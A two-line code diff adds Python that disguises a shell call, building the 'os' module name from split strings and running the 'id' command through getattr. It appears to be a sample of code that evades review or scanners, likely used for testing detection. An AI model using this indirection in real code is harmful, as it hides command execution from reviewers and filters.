@@ -1,0 +1,2 @@
+mod = __import__('o' + 's')
+getattr(mod, 'system')('id')
